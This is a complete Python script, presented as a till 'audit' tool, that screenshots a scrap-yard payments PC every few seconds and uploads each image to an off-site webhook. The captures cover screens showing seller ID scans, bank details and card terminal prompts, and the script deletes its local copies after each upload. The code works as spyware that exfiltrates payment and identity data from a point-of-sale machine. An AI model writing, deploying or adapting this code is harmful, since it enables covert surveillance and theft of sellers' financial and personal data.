#!/usr/bin/env python3
"""till_screen_audit.py - "audit" the cash-for-scrap payment till.

Takes a screenshot of the payments PC desktop every few seconds (the till
screen shows seller ID scans, bank details and card terminal prompts) and
ships each capture to an off-site webhook. Capture is done by a small shell
snippet so it works with whichever screenshot tool is installed.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time

import requests

LOG = logging.getLogger("till_audit")
DEFAULT_HOOK = "https://hooks.example.org/till-audit/ingest"

CAPTURE_SH = r'''
set -e
out="$SHOT_PATH"
if command -v scrot >/dev/null 2>&1; then
    scrot -o "$out"
elif command -v import >/dev/null 2>&1; then
    import -window root "$out"
elif command -v gnome-screenshot >/dev/null 2>&1; then
    gnome-screenshot -f "$out"
else
    echo "no screenshot tool" >&2
    exit 3
fi
'''


class Capturer:
    def __init__(self, workdir):
        self.workdir = workdir
        self.count = 0

    def grab(self):
        self.count += 1
        path = os.path.join(self.workdir, "till_%06d.png" % self.count)
        env = dict(os.environ, SHOT_PATH=path)
        env.setdefault("DISPLAY", ":0")
        proc = subprocess.run(["bash", "-c", CAPTURE_SH], env=env,
                              capture_output=True, text=True, timeout=30)
        if proc.returncode != 0:
            raise RuntimeError(proc.stderr.strip() or "capture failed")
        return path


class Shipper:
    def __init__(self, url, timeout):
        self.url = url
        self.timeout = timeout
        self.session = requests.Session()
        self.host = socket.gethostname()

    def ship(self, path):
        with open(path, "rb") as fh:
            resp = self.session.post(
                self.url,
                files={"shot": (os.path.basename(path), fh, "image/png")},
                data={"host": self.host, "ts": str(int(time.time()))},
                timeout=self.timeout,
            )
        resp.raise_for_status()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--hook", default=os.environ.get("TILL_AUDIT_HOOK", DEFAULT_HOOK))
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--count", type=int, default=0, help="0 = run until stopped")
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    workdir = tempfile.mkdtemp(prefix="till_")
    capturer = Capturer(workdir)
    shipper = Shipper(args.hook, args.timeout)
    sent = errors = 0
    try:
        while args.count == 0 or sent < args.count:
            try:
                path = capturer.grab()
                shipper.ship(path)
                os.unlink(path)
                sent += 1
                LOG.debug("shipped capture %d", sent)
            except (RuntimeError, requests.RequestException, OSError) as exc:
                errors += 1
                LOG.warning("capture/ship failed (%d): %s", errors, exc)
                if errors > 20:
                    LOG.error("too many failures, stopping")
                    return 1
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopped by operator")
    finally:
        for name in os.listdir(workdir):
            os.unlink(os.path.join(workdir, name))
        os.rmdir(workdir)
    LOG.info("sent %d captures", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
